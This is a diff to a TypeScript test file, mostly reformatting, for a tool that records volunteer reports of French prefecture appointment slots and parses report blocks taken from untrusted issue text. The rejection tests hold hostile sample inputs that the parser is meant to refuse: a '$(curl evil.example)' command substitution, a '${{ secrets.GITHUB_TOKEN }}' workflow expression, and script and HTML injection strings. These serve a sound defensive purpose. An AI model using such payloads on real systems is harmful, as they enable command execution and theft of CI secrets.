@@ -3,7 +3,13 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { captureObservation } from '../../src/lib/observation-capture.ts';
-import { BLOCK_BEGIN, BLOCK_END, formatBlock, readBlocks, type ObservationBlock } from '../../src/lib/observation-block.ts';
+import {
+  BLOCK_BEGIN,
+  BLOCK_END,
+  formatBlock,
+  readBlocks,
+  type ObservationBlock,
+} from '../../src/lib/observation-block.ts';
 import { parseObservationFile, type ObservationRow } from '../../src/lib/observation.ts';
 import { judgeSubmission, MAX_PER_ACCOUNT_PER_HOUR } from '../../src/lib/observation-submission.ts';
 import { publicationTimestamp, readSlotState } from '../../src/lib/rdv-slot-state.ts';
@@ -17,19 +23,39 @@ const SLOT_PATH = '/rdvpref/reservation/demarche/3771/creneau/';
 
 describe('the slot-page state', () => {
   test.each([
-    ['slots shown this week', 'rdvpref_creneau_slots.html', { kind: 'slots', first: { date: '2026-05-19', time: '09:30' }, second: { date: '2026-05-19', time: '09:45' }, slotsShown: 3 }],
+    [
+      'slots shown this week',
+      'rdvpref_creneau_slots.html',
+      {
+        kind: 'slots',
+        first: { date: '2026-05-19', time: '09:30' },
+        second: { date: '2026-05-19', time: '09:45' },
+        slotsShown: 3,
+      },
+    ],
     ['no slot at all', 'rdvpref_creneau_none.html', { kind: 'none' }],
-    ['none this week, « prochaine disponibilité » later', 'rdvpref_creneau_none_this_week.html', { kind: 'slots', first: { date: '2026-06-02', time: '' }, second: null, slotsShown: 0 }],
+    [
+      'none this week, « prochaine disponibilité » later',
+      'rdvpref_creneau_none_this_week.html',
+      { kind: 'slots', first: { date: '2026-06-02', time: '' }, second: null, slotsShown: 0 },
+    ],
   ])('%s', (_, name, expected) => {
     expect(readSlotState(initData(fixture(name)))).toMatchObject(expected);
   });
 
   test.each([
-    ['present', 'rdvpref_creneau_slots.html', { last_publication: '2026-05-04T11:58:00+02:00', next_publication: '2026-05-11T11:58:00+02:00' }],
+    [
+      'present',
+      'rdvpref_creneau_slots.html',
+      { last_publication: '2026-05-04T11:58:00+02:00', next_publication: '2026-05-11T11:58:00+02:00' },
+    ],
     ['absent', 'rdvpref_creneau_none_this_week.html', { last_publication: '', next_publication: '' }],
   ])('publication dates %s', (_, name, expected) => {
     const capture = captureObservation(SLOT_PATH, initData(fixture(name)), new Date('2026-05-18T08:00:00Z'));
-    expect(capture).toMatchObject({ ok: true, block: { demarche: '3771', observed_at: '2026-05-18T10:00:00+02:00', ...expected } });
+    expect(capture).toMatchObject({
+      ok: true,
+      block: { demarche: '3771', observed_at: '2026-05-18T10:00:00+02:00', ...expected },
+    });
   });
 
   test.each([
@@ -41,7 +67,11 @@ describe('the slot-page state', () => {
   });
 
   test.each([
-    ['another page of the site', '/rdvpref/reservation/demarche/3771/cgu/', initData(fixture('rdvpref_creneau_slots.html'))],
+    [
+      'another page of the site',
+      '/rdvpref/reservation/demarche/3771/cgu/',
+      initData(fixture('rdvpref_creneau_slots.html')),
+    ],
     ['another site', '/booking/create/885', initData(fixture('rdvpref_creneau_slots.html'))],
     ['a slot address without state', SLOT_PATH, null],
     ['a state that is not a slot state', SLOT_PATH, state({ CTX: 'x' })],
@@ -63,16 +93,47 @@ const block = (fields: Partial<ObservationBlock> = {}): ObservationBlock => ({
   ...fields,
 });
 const procedures = [
-  { department: '54', slug: 'demarche-3771', system: 'rdv-prefecture', url: 'https://www.rdv-prefecture.interieur.gouv.fr/rdvpref/reservation/demarche/3771/', until: '' },
-  { department: '75', slug: 'charcot', system: 'legacy-booking', url: 'https://pprdv.interieur.gouv.fr/booking/create/4564', until: '' },
+  {
+    department: '54',
+    slug: 'demarche-3771',
+    system: 'rdv-prefecture',
+    url: 'https://www.rdv-prefecture.interieur.gouv.fr/rdvpref/reservation/demarche/3771/',
+    until: '',
+  },
+  {
+    department: '75',
+    slug: 'charcot',
+    system: 'legacy-booking',
+    url: 'https://pprdv.interieur.gouv.fr/booking/create/4564',
+    until: '',
+  },
 ] as unknown as Procedure[];
-const stored: ObservationRow = { observed_at: '2026-05-18T11:30:42+02:00', outcome: 'slots', first_date: '2026-05-19', second_date: '2026-05-21', last_publication: '2026-05-11T11:58:00+02:00', next_publication: '2026-05-25T11:58:00+02:00', source: 'volunteer', reference: 'issue:7' };
+const stored: ObservationRow = {
+  observed_at: '2026-05-18T11:30:42+02:00',
+  outcome: 'slots',
+  first_date: '2026-05-19',
+  second_date: '2026-05-21',
+  last_publication: '2026-05-11T11:58:00+02:00',
+  next_publication: '2026-05-25T11:58:00+02:00',
+  source: 'volunteer',
+  reference: 'issue:7',
+};
 const judge = (candidate: ObservationBlock, more: { account?: number; stored?: ObservationRow[] } = {}) =>
-  judgeSubmission(candidate, { procedures, now: NOW, reference: 'issue:12', stored: () => more.stored ?? [], accountReportsInLastHour: more.account ?? 0 });
+  judgeSubmission(candidate, {
+    procedures,
+    now: NOW,
+    reference: 'issue:12',
+    stored: () => more.stored ?? [],
+    accountReportsInLastHour: more.account ?? 0,
+  });
 
 describe('judging an observation', () => {
   test('a well-formed recent observation is accepted as one volunteer row', () => {
-    expect(judge(block())).toMatchObject({ ok: true, procedure: { slug: 'demarche-3771' }, row: { source: 'volunteer', reference: 'issue:12', first_date: '2026-05-19' } });
+    expect(judge(block())).toMatchObject({
+      ok: true,
+      procedure: { slug: 'demarche-3771' },
+      row: { source: 'volunteer', reference: 'issue:12', first_date: '2026-05-19' },
+    });
   });
 
   test.each([
@@ -102,7 +163,11 @@ describe('judging an observation', () => {
   test.each([
     ['a skew of 4 minutes', block({ observed_at: '2026-05-18T12:04:00+02:00' }), {}],
     ['47 hours old', block({ observed_at: '2026-05-16T13:00:00+02:00', first_date: '2026-05-19' }), {}],
-    ['the same minute with other content', block({ observed_at: '2026-05-18T11:30:05+02:00', second_date: '' }), { stored: [stored] }],
+    [
+      'the same minute with other content',
+      block({ observed_at: '2026-05-18T11:30:05+02:00', second_date: '' }),
+      { stored: [stored] },
+    ],
     ['the last report the account may make within the hour', block(), { account: MAX_PER_ACCOUNT_PER_HOUR - 1 }],
   ])('accepted: %s', (_, candidate, more) => {
     expect(judge(candidate, more).ok).toBe(true);
@@ -115,7 +180,10 @@ const good = formatBlock(block());
 describe('reading blocks from untrusted text', () => {
   test('the formatted block reads back, whatever surrounds it, once per block', () => {
     const text = `### Observation\n\n\`\`\`text\n${good}\n\`\`\`\n\nMerci !\n${good.replace(/\n/g, '\r\n')}`;
-    expect(readBlocks(text)).toEqual([{ ok: true, block: block() }, { ok: true, block: block() }]);
+    expect(readBlocks(text)).toEqual([
+      { ok: true, block: block() },
+      { ok: true, block: block() },
+    ]);
   });
 
   test.each([
@@ -123,7 +191,10 @@ describe('reading blocks from untrusted text', () => {
     ['command substitution', good.replace('outcome: slots', 'outcome: $(curl evil.example)')],
     ['a workflow expression', good.replace('first_date: 2026-05-19', 'first_date: ${{ secrets.GITHUB_TOKEN }}')],
     ['HTML', good.replace('second_date: 2026-05-21', 'second_date: <img src=x onerror=alert(1)>')],
-    ['Markdown', good.replace('last_publication: 2026-05-11T11:58:00+02:00', 'last_publication: [clic](https://evil.example)')],
+    [
+      'Markdown',
+      good.replace('last_publication: 2026-05-11T11:58:00+02:00', 'last_publication: [clic](https://evil.example)'),
+    ],
     ['an unknown field', good.replace(BLOCK_END, `note: <script>alert(1)</script>\n${BLOCK_END}`)],
     ['a repeated field', good.replace(BLOCK_END, `outcome: none\n${BLOCK_END}`)],
     ['a missing field', good.replace(/^next_publication:.*$/m, '')],
@@ -137,15 +208,21 @@ describe('reading blocks from untrusted text', () => {
 
   test('text outside the markers is ignored, a body without a block gives none', () => {
     expect(readBlocks('$(whoami) ${{ github.token }} <b>x</b>')).toEqual([]);
-    expect(readBlocks(wrap(['version: 1']))[0]).toMatchObject({ ok: false, reason: expect.stringContaining('demarche') });
+    expect(readBlocks(wrap(['version: 1']))[0]).toMatchObject({
+      ok: false,
+      reason: expect.stringContaining('demarche'),
+    });
   });
 });
 
 describe('observation month files', () => {
   const HEADER = 'observed_at,outcome,first_date,second_date,last_publication,next_publication,source,reference\n';
-  const ROW = '2026-05-18T11:30:42+02:00,slots,2026-05-19,2026-05-21,2026-05-11T11:58:00+02:00,2026-05-25T11:58:00+02:00,volunteer,issue:7\n';
+  const ROW =
+    '2026-05-18T11:30:42+02:00,slots,2026-05-19,2026-05-21,2026-05-11T11:58:00+02:00,2026-05-25T11:58:00+02:00,volunteer,issue:7\n';
   test('a valid file reads', () => {
-    expect(parseObservationFile(HEADER + ROW, 'f.csv', '2026-05').observations).toMatchObject([{ reference: 'issue:7', day: '2026-05-18' }]);
+    expect(parseObservationFile(HEADER + ROW, 'f.csv', '2026-05').observations).toMatchObject([
+      { reference: 'issue:7', day: '2026-05-18' },
+    ]);
   });
   test.each([
     ['another month', HEADER + ROW, '2026-06', 'does not belong'],
